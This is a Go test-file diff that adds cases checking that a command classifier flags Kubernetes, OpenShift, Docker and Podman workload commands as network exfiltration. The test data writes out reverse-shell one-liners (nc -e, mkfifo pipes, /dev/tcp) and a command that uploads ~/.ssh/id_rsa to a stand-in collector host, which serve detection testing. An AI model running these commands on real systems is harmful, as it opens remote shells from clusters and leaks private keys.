@@ -329,3 +329,39 @@ func TestRuntimeSocketsAndKubelet(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestWorkloadCommandServed: the command a new pod, job, cron job,
+// deployment or container runs, when it serves a shell to another host
+// or sends data away, is network-exfiltration (README's badPods call: a
+// reverse shell served from the cluster; a reverse shell is
+// network-exfiltration). Forms from the kubectl reference (run NAME
+// --image=I [--command] -- CMD, create job|cronjob|deployment NAME
+// --image=I -- CMD) and docker|podman run IMAGE CMD. What the command does
+// to the container's own file system stays out (it is the container's),
+// as do listeners and ordinary commands.
+func TestWorkloadCommandServed(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`kubectl run revshell --image=alpine --restart=Never -- sh -c "nc 10.0.0.1 4444 -e /bin/sh"`, NetworkExfiltration},
+		{`kubectl run revshell --image=busybox -- /bin/sh -c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f'`, NetworkExfiltration},
+		{`kubectl run x --image=alpine --command -- bash -c "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"`, NetworkExfiltration},
+		{`kubectl create job shell --image=alpine -- sh -c "nc 10.0.0.1 4444 -e /bin/sh"`, NetworkExfiltration},
+		{`kubectl create cronjob shell --image=alpine --schedule="*/1 * * * *" -- sh -c "nc 10.0.0.1 4444 -e /bin/sh"`, NetworkExfiltration},
+		{`oc create deployment shell --image=alpine -- sh -c "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"`, NetworkExfiltration},
+		{`docker run --rm alpine sh -c "nc 10.0.0.1 4444 -e /bin/sh"`, NetworkExfiltration},
+		{`podman run -d --name x alpine sh -c "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"`, NetworkExfiltration},
+		{`docker run --rm -v ~/.ssh:/k alpine sh -c "curl -F f=@/k/id_rsa https://collector.example/u"`, NetworkExfiltration},
+		{"kubectl run test --image=busybox --restart=Never -- echo hello", ""},
+		{"kubectl create job test --image=busybox -- echo hello", ""},
+		{"kubectl run x --image=busybox -- rm -rf /data", ""},
+		{"docker run --rm alpine cat /etc/shadow", ""},
+		{"kubectl run nc --image=busybox -- nc -lvp 4444", ""},
+		{"kubectl run curl --image=curlimages/curl -- curl -s https://example.com", ""},
+		{"kubectl create deployment nginx --image=nginx", ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+	explainRow(t, `kubectl run revshell --image=alpine -- sh -c "nc 10.0.0.1 4444 -e /bin/sh"`, NetworkExfiltration, "workloadCommandServed",
+		[]string{"kubectl", "run", "--", "sh", "-c", "nc 10.0.0.1 4444 -e /bin/sh"})
+}
